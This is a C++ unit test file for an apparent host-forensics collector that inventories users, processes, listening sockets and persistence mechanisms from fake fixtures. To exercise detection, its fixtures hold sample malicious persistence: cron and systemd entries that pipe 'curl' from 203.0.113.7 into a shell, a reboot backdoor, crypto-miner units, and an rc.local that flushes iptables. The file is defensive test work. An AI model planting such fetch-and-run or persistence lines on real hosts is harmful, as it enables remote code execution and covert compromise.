// CollectHostFacts over a fake root and a fake procfs built from the fixtures: every dataset,
// the process/socket join, the executable hash cache, and failing soft when /etc/passwd is gone.
#include <gtest/gtest.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "agents/host/facts/facts.h"
#include "agents/host/facts/parsers.h"
#include "common/hash.h"
#include "common/text.h"
#include "fake_tree.h"
#include "fixtures.h"

namespace beffroi::host::facts {
namespace {

using namespace std::string_literals;
using testing::FakeTree;

constexpr std::string_view kFakeSshd = "not really an ELF, but hashed all the same\n";

// /proc/PID/stat with the given comm, ppid and start time in ticks.
std::string StatLine(int pid, std::string_view comm, int ppid, std::uint64_t start_ticks) {
  return std::to_string(pid) + " (" + std::string(comm) + ") S " + std::to_string(ppid) +
         " 0 0 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 " + std::to_string(start_ticks) + " 0 0\n";
}

void BuildRoot(const FakeTree& t) {
  t.Write("root/etc/passwd",
          "root:x:0:0:root:/root:/bin/bash\n"
          "alice:x:1000:1000:Alice Martin,,,:/home/alice:/bin/bash\n"
          "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          "garbage line\n");
  t.Write("root/etc/group", testing::kGroup);
  // As on Debian: /etc/os-release is a relative link to the vendor file.
  t.Write("root/usr/lib/os-release", testing::kOsRelease);
  t.Symlink("root/etc/os-release", "../usr/lib/os-release");
  t.Write("root/etc/machine-id", "0123456789abcdef0123456789abcdef\n");
  // Two jobs in /etc/crontab, one in cron.d; the hidden placeholder is skipped.
  t.Write("root/etc/crontab",
          "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n"
          "@reboot root /opt/.x/backdoor\n");
  t.Write("root/etc/cron.d/evil",
          "# cron.d job\n*/5 * * * * www-data curl -s http://203.0.113.7/p | sh\n");
  t.Write("root/etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE\n");
  t.Write("root/etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate /etc/logrotate.conf\n");
  t.Write("root/var/spool/cron/crontabs/alice", testing::kUserCrontab);
  t.Write("root/etc/systemd/system/evil.service", testing::kServiceUnit);
  t.Symlink("root/etc/systemd/system/multi-user.target.wants/evil.service",
            "/etc/systemd/system/evil.service");
  t.Symlink("root/etc/systemd/system/masked.service", "/dev/null");
  t.Write("root/etc/systemd/system/notes.txt", "not a unit\n");
  t.Write("root/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
  t.Write("root/lib/systemd/system/backup.timer", testing::kTimerUnit);
  t.Write("root/home/alice/.config/systemd/user/miner.service",
          "[Service]\nExecStart=/home/alice/.local/bin/xmrig\n");
  t.Write("root/etc/rc.local", testing::kRcLocal);
}

void BuildProc(const FakeTree& t) {
  const std::uint64_t hz = static_cast<std::uint64_t>(::sysconf(_SC_CLK_TCK));
  t.Write("proc/uptime", testing::kProcUptime);
  t.Write("proc/stat", testing::kProcStatFile);  // btime 1700000000 = 2023-11-14T22:13:20Z
  t.Write("proc/net/tcp", testing::kProcNetTcp);
  t.Write("proc/net/tcp6", testing::kProcNetTcp6);
  t.Write("proc/net/udp", testing::kProcNetUdp);  // no udp6: optional
  t.Write("bin/fake-sshd", kFakeSshd);

  t.Write("proc/100/stat", StatLine(100, "sshd", 1, 0));
  t.Write("proc/100/cmdline", "/usr/sbin/sshd\0-D\0"s);
  t.Write("proc/100/status", "Name:\tsshd\nUid:\t0\t0\t0\t0\n");
  t.Write("proc/100/comm", "sshd\n");
  t.Symlink("proc/100/exe", t.Path("bin/fake-sshd"));
  t.Symlink("proc/100/fd/3", "socket:[20002]");
  t.Symlink("proc/100/fd/4", "socket:[99999]");  // not a listening socket

  // comm with ')' and a deleted executable that can no longer be opened here.
  t.Write("proc/200/stat", StatLine(200, "evil) x", 100, 90 * hz));
  t.Write("proc/200/cmdline", "./x\0--quiet\0"s);
  t.Write("proc/200/status", "Uid:\t1000\t1000\t1000\t1000\n");
  t.Symlink("proc/200/exe", "/tmp/.x/payload (deleted)");
  t.Symlink("proc/200/fd/0", "/dev/null");

  // Same executable as pid 100: hashed once.
  t.Write("proc/300/stat", StatLine(300, "sshd", 100, hz));
  t.Symlink("proc/300/exe", t.Path("bin/fake-sshd"));

  t.Mkdir("proc/400");        // no stat: unreadable, skipped and counted
  t.Mkdir("proc/not-a-pid");  // ignored
}

struct Collected {
  std::vector<Event> events;
  FactsSummary summary;

  std::vector<const Event*> Of(std::string_view dataset) const {
    std::vector<const Event*> out;
    for (const Event& e : events) {
      if (e.dataset() == dataset) out.push_back(&e);
    }
    return out;
  }
  const Event* Find(std::string_view dataset, std::string_view key, const nlohmann::json& v) const {
    for (const Event* e : Of(dataset)) {
      const nlohmann::json* got = e->Find(key);
      if (got != nullptr && *got == v) return e;
    }
    return nullptr;
  }
};

Collected Collect(const FakeTree& t) {
  FactsOptions options;
  options.root = t.Path("root");
  options.proc = t.Path("proc");
  Collected c;
  c.summary = CollectHostFacts(options, [&](Event e) { c.events.push_back(std::move(e)); });
  return c;
}

class CollectHostFactsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    BuildRoot(tree_);
    BuildProc(tree_);
  }
  FakeTree tree_;
};

TEST_F(CollectHostFactsTest, EmitsEveryDatasetWithoutAnomalies) {
  Collected c = Collect(tree_);
  for (const Event& e : c.events) {
    EXPECT_NE(e.dataset(), "beffroi.anomaly") << e.Serialize();
    EXPECT_EQ(e.GetString("schema"), "beffroi/1");
    EXPECT_EQ(e.GetString("event.kind"), "state");
  }
  EXPECT_EQ(c.summary.collector_failures, 0u);
  EXPECT_EQ(c.summary.counts["beffroi.host"], 1u);
  EXPECT_EQ(c.summary.counts["beffroi.user"], 3u);
  EXPECT_EQ(c.summary.counts["beffroi.process"], 3u);
  EXPECT_EQ(c.summary.counts["beffroi.socket"], 7u);
  EXPECT_EQ(c.summary.counts["beffroi.persistence"], 12u);
  EXPECT_EQ(c.summary.counts["users.unparsed"], 2u);  // "garbage line" and group "bad"
  EXPECT_EQ(c.summary.counts["processes.unreadable"], 1u);
  EXPECT_EQ(c.summary.counts["processes.hashed"], 1u);
}

TEST_F(CollectHostFactsTest, HostEvent) {
  Collected c = Collect(tree_);
  ASSERT_EQ(c.Of("beffroi.host").size(), 1u);
  const Event& h = *c.Of("beffroi.host")[0];
  EXPECT_EQ(h.GetString("host.os.name"), "Ubuntu");
  EXPECT_EQ(h.GetString("host.os.version"), "22.04");
  EXPECT_EQ(h.GetString("host.os.platform"), "ubuntu");
  EXPECT_EQ(h.GetString("host.os.family"), "debian");
  EXPECT_EQ(h.GetString("host.os.full"), "Ubuntu 22.04.4 LTS");
  EXPECT_EQ(h.GetString("host.os.type"), "linux");
  EXPECT_EQ(h.GetString("host.id"), "0123456789abcdef0123456789abcdef");
  EXPECT_FALSE(h.GetString("host.hostname").empty());
  EXPECT_FALSE(h.GetString("host.os.kernel").empty());
  EXPECT_FALSE(h.GetString("host.architecture").empty());
  EXPECT_EQ(h.json()["host"]["uptime"], 3600);
  EXPECT_EQ(h.GetString("beffroi.host.boot_time"), "2023-11-14T22:13:20.000000Z");
}

TEST_F(CollectHostFactsTest, UserEvents) {
  Collected c = Collect(tree_);
  const Event* alice = c.Find("beffroi.user", "user.name", "alice");
  ASSERT_NE(alice, nullptr);
  EXPECT_EQ(alice->GetString("user.id"), "1000");
  EXPECT_EQ(alice->GetString("user.group.id"), "1000");
  EXPECT_EQ(alice->GetString("user.group.name"), "alice");
  EXPECT_EQ(alice->GetString("user.full_name"), "Alice Martin");
  EXPECT_EQ(alice->GetString("beffroi.user.home"), "/home/alice");
  EXPECT_EQ(*alice->Find("beffroi.user.login_allowed"), true);
  EXPECT_EQ(*alice->Find("beffroi.user.privileged_groups"), nlohmann::json({"adm", "sudo"}));

  const Event* www = c.Find("beffroi.user", "user.name", "www-data");
  ASSERT_NE(www, nullptr);
  EXPECT_EQ(*www->Find("beffroi.user.login_allowed"), false);
  EXPECT_EQ(*www->Find("beffroi.user.privileged_groups"), nlohmann::json::array());
  EXPECT_EQ(www->Find("user.group.name"), nullptr);  // gid 33 is not in the group file
}

TEST_F(CollectHostFactsTest, ProcessEvents) {
  Collected c = Collect(tree_);
  const Event* sshd = c.Find("beffroi.process", "process.pid", 100);
  ASSERT_NE(sshd, nullptr);
  EXPECT_EQ(sshd->GetString("process.name"), "sshd");
  EXPECT_EQ(*sshd->Find("process.parent.pid"), 1);
  EXPECT_EQ(sshd->GetString("process.command_line"), "/usr/sbin/sshd -D");
  EXPECT_EQ(*sshd->Find("process.args"), nlohmann::json({"/usr/sbin/sshd", "-D"}));
  EXPECT_EQ(sshd->GetString("process.user.id"), "0");
  EXPECT_EQ(sshd->GetString("process.executable"), tree_.Path("bin/fake-sshd"));
  EXPECT_EQ(*sshd->Find("beffroi.process.executable_deleted"), false);
  EXPECT_EQ(sshd->GetString("process.hash.sha256"), Sha256Hex(kFakeSshd));
  EXPECT_EQ(sshd->GetString("process.start"), "2023-11-14T22:13:20.000000Z");  // at boot

  const Event* evil = c.Find("beffroi.process", "process.pid", 200);
  ASSERT_NE(evil, nullptr);
  EXPECT_EQ(evil->GetString("process.name"), "evil) x");
  EXPECT_EQ(*evil->Find("process.parent.pid"), 100);
  EXPECT_EQ(evil->GetString("process.user.id"), "1000");
  EXPECT_EQ(evil->GetString("process.executable"), "/tmp/.x/payload");
  EXPECT_EQ(*evil->Find("beffroi.process.executable_deleted"), true);
  EXPECT_EQ(evil->Find("process.hash.sha256"), nullptr);
  EXPECT_EQ(evil->GetString("process.start"), "2023-11-14T22:14:50.000000Z");  // 90 s later

  const Event* twin = c.Find("beffroi.process", "process.pid", 300);
  ASSERT_NE(twin, nullptr);
  EXPECT_EQ(twin->GetString("process.hash.sha256"), Sha256Hex(kFakeSshd));
  EXPECT_EQ(twin->Find("process.command_line"), nullptr);  // no cmdline file
}

TEST_F(CollectHostFactsTest, HashingCanBeTurnedOff) {
  FactsOptions options;
  options.root = tree_.Path("root");
  options.proc = tree_.Path("proc");
  options.hash_executables = false;
  std::vector<Event> events;
  FactsSummary s = CollectHostFacts(options, [&](Event e) { events.push_back(std::move(e)); });
  for (const Event& e : events)
    EXPECT_EQ(e.Find("process.hash.sha256"), nullptr);
  EXPECT_EQ(s.counts["processes.hashed"], 0u);
}

TEST_F(CollectHostFactsTest, SocketEvents) {
  Collected c = Collect(tree_);
  const Event* ssh = c.Find("beffroi.socket", "beffroi.socket.inode", 20002);
  ASSERT_NE(ssh, nullptr);
  EXPECT_EQ(ssh->GetString("source.ip"), "0.0.0.0");
  EXPECT_EQ(*ssh->Find("source.port"), 22);
  EXPECT_EQ(ssh->GetString("network.transport"), "tcp");
  EXPECT_EQ(ssh->GetString("network.type"), "ipv4");
  EXPECT_EQ(ssh->GetString("user.id"), "0");
  EXPECT_EQ(*ssh->Find("process.pid"), 100);
  EXPECT_EQ(ssh->GetString("process.name"), "sshd");

  const Event* dns = c.Find("beffroi.socket", "beffroi.socket.inode", 20006);
  ASSERT_NE(dns, nullptr);
  EXPECT_EQ(dns->GetString("source.ip"), "127.0.0.53");
  EXPECT_EQ(dns->GetString("network.transport"), "udp");
  EXPECT_EQ(dns->GetString("user.id"), "101");
  EXPECT_EQ(dns->Find("process.pid"), nullptr);  // no fd links to it

  const Event* v6 = c.Find("beffroi.socket", "beffroi.socket.inode", 20004);
  ASSERT_NE(v6, nullptr);
  EXPECT_EQ(v6->GetString("source.ip"), "::1");
  EXPECT_EQ(v6->GetString("network.type"), "ipv6");

  // Established TCP and connected UDP sockets are not reported.
  EXPECT_EQ(c.Find("beffroi.socket", "beffroi.socket.inode", 20003), nullptr);
  EXPECT_EQ(c.Find("beffroi.socket", "beffroi.socket.inode", 20009), nullptr);
  EXPECT_EQ(c.Find("beffroi.socket", "beffroi.socket.inode", 20010), nullptr);
}

TEST_F(CollectHostFactsTest, CronEvents) {
  Collected c = Collect(tree_);
  const Event* reboot = c.Find("beffroi.persistence", "beffroi.persistence.schedule", "@reboot");
  ASSERT_NE(reboot, nullptr);
  EXPECT_EQ(reboot->GetString("beffroi.persistence.mechanism"), "cron");
  EXPECT_EQ(reboot->GetString("user.name"), "root");
  EXPECT_EQ(reboot->GetString("process.command_line"), "/opt/.x/backdoor");
  EXPECT_EQ(reboot->GetString("file.path"), tree_.Path("root/etc/crontab"));
  EXPECT_EQ(*reboot->Find("beffroi.persistence.line"), 3);

  const Event* crond =
      c.Find("beffroi.persistence", "file.path", tree_.Path("root/etc/cron.d/evil"));
  ASSERT_NE(crond, nullptr);
  EXPECT_EQ(crond->GetString("user.name"), "www-data");
  EXPECT_EQ(*crond->Find("beffroi.persistence.line"), 2);

  // User crontab: the user is the file name.
  const Event* alice = c.Find("beffroi.persistence", "beffroi.persistence.schedule", "@daily");
  ASSERT_NE(alice, nullptr);
  EXPECT_EQ(alice->GetString("user.name"), "alice");
  EXPECT_EQ(alice->GetString("file.path"), tree_.Path("root/var/spool/cron/crontabs/alice"));

  std::string script = tree_.Path("root/etc/cron.daily/logrotate");
  const Event* daily = c.Find("beffroi.persistence", "process.command_line", script);
  ASSERT_NE(daily, nullptr);
  EXPECT_EQ(daily->GetString("beffroi.persistence.schedule"), "@daily");
  EXPECT_EQ(daily->GetString("file.path"), script);

  EXPECT_EQ(c.Find("beffroi.persistence", "file.path", tree_.Path("root/etc/cron.d/.placeholder")),
            nullptr);
  EXPECT_EQ(c.summary.counts["persistence.unparsed"], 2u);  // alice's bad line + evil.service's
}

TEST_F(CollectHostFactsTest, SystemdAndRcLocalEvents) {
  Collected c = Collect(tree_);
  const Event* evil = c.Find("beffroi.persistence", "beffroi.persistence.unit", "evil.service");
  ASSERT_NE(evil, nullptr);
  EXPECT_EQ(evil->GetString("beffroi.persistence.mechanism"), "systemd");
  EXPECT_EQ(evil->GetString("file.path"), tree_.Path("root/etc/systemd/system/evil.service"));
  EXPECT_EQ(*evil->Find("beffroi.persistence.enabled"), true);
  EXPECT_EQ(evil->GetString("user.name"), "nobody");
  EXPECT_EQ(evil->GetString("process.command_line"),
            "/usr/bin/env bash -c 'curl -s http://203.0.113.7/x | bash'");
  EXPECT_EQ(evil->Find("beffroi.persistence.exec")->size(), 3u);

  const Event* ssh = c.Find("beffroi.persistence", "beffroi.persistence.unit", "ssh.service");
  ASSERT_NE(ssh, nullptr);
  EXPECT_EQ(*ssh->Find("beffroi.persistence.enabled"), false);
  EXPECT_EQ(ssh->GetString("user.name"), "root");

  const Event* timer = c.Find("beffroi.persistence", "beffroi.persistence.unit", "backup.timer");
  ASSERT_NE(timer, nullptr);
  EXPECT_EQ(timer->GetString("beffroi.persistence.schedule"),
            "OnCalendar=*-*-* 03:00:00; OnBootSec=15min");

  const Event* masked = c.Find("beffroi.persistence", "beffroi.persistence.unit", "masked.service");
  ASSERT_NE(masked, nullptr);
  EXPECT_EQ(*masked->Find("beffroi.persistence.masked"), true);
  EXPECT_EQ(masked->GetString("beffroi.persistence.link_target"), "/dev/null");

  const Event* miner = c.Find("beffroi.persistence", "beffroi.persistence.unit", "miner.service");
  ASSERT_NE(miner, nullptr);
  EXPECT_EQ(miner->GetString("user.name"), "alice");  // owner of the per-user directory
  EXPECT_EQ(miner->GetString("process.command_line"), "/home/alice/.local/bin/xmrig");

  const Event* rc = c.Find("beffroi.persistence", "beffroi.persistence.mechanism", "rc.local");
  ASSERT_NE(rc, nullptr);
  EXPECT_EQ(rc->GetString("file.path"), tree_.Path("root/etc/rc.local"));
  EXPECT_EQ(*rc->Find("beffroi.persistence.exec"),
            nlohmann::json({"/usr/local/bin/start-miner &", "iptables -F", "exit 0"}));
}

TEST_F(CollectHostFactsTest, MissingPasswdIsOneAnomalyAndTheRestGoesOn) {
  tree_.Remove("root/etc/passwd");
  Collected c = Collect(tree_);
  std::vector<const Event*> anomalies = c.Of("beffroi.anomaly");
  ASSERT_EQ(anomalies.size(), 1u);
  const Event& a = *anomalies[0];
  EXPECT_EQ(a.GetString("event.kind"), "event");
  EXPECT_EQ(a.GetString("event.action"), "host.collector_failed");
  EXPECT_EQ(a.GetString("beffroi.anomaly.name"), "host.collector_failed");
  EXPECT_EQ(a.GetString("beffroi.anomaly.collector"), "users");
  EXPECT_NE(a.GetString("error.message").find("passwd"), std::string::npos);
  EXPECT_EQ(c.summary.collector_failures, 1u);
  EXPECT_EQ(c.summary.counts["beffroi.user"], 0u);
  EXPECT_EQ(c.summary.counts["beffroi.host"], 1u);
  EXPECT_EQ(c.summary.counts["beffroi.process"], 3u);
  EXPECT_EQ(c.summary.counts["beffroi.socket"], 7u);
  EXPECT_EQ(c.summary.counts["beffroi.persistence"], 12u);
}

TEST_F(CollectHostFactsTest, SymlinkOutOfTheRootIsNotFollowed) {
  tree_.Remove("root/etc/passwd");
  tree_.Write("outside/passwd", "mallory:x:0:0::/root:/bin/sh\n");
  tree_.Symlink("root/etc/passwd", "../../outside/passwd");
  Collected c = Collect(tree_);
  EXPECT_EQ(c.summary.counts["beffroi.user"], 0u);
  std::vector<const Event*> anomalies = c.Of("beffroi.anomaly");
  ASSERT_EQ(anomalies.size(), 1u);
  EXPECT_NE(anomalies[0]->GetString("error.message").find("leaves the root"), std::string::npos);
}

TEST_F(CollectHostFactsTest, AbsoluteSymlinkResolvesInsideTheRoot) {
  // In a mounted image "/usr/lib/os-release" means the image's file, not the live system's.
  tree_.Remove("root/etc/os-release");
  tree_.Symlink("root/etc/os-release", "/usr/lib/os-release");
  Collected c = Collect(tree_);
  ASSERT_EQ(c.Of("beffroi.host").size(), 1u);
  EXPECT_EQ(c.Of("beffroi.host")[0]->GetString("host.os.name"), "Ubuntu");
  EXPECT_EQ(c.summary.collector_failures, 0u);
}

TEST_F(CollectHostFactsTest, EmptyRootAndMissingProcFailSoftly) {
  FactsOptions options;
  options.root = tree_.Path("empty-root");
  options.proc = tree_.Path("no-proc");
  std::vector<Event> events;
  FactsSummary s = CollectHostFacts(options, [&](Event e) { events.push_back(std::move(e)); });
  // users (no passwd), processes (no procfs), sockets (no net/tcp), host (no uptime, no stat).
  std::vector<std::string> failed;
  for (const Event& e : events) {
    if (e.dataset() == "beffroi.anomaly") {
      failed.push_back(e.GetString("beffroi.anomaly.collector"));
    }
  }
  EXPECT_EQ(failed, (std::vector<std::string>{"host", "host", "users", "processes", "sockets"}));
  EXPECT_EQ(s.collector_failures, 5u);
  EXPECT_EQ(s.counts["beffroi.host"], 1u);         // still emitted, with the kernel facts
  EXPECT_EQ(s.counts["beffroi.persistence"], 0u);  // optional sources: absence is not failure
}

}  // namespace
}  // namespace beffroi::host::facts
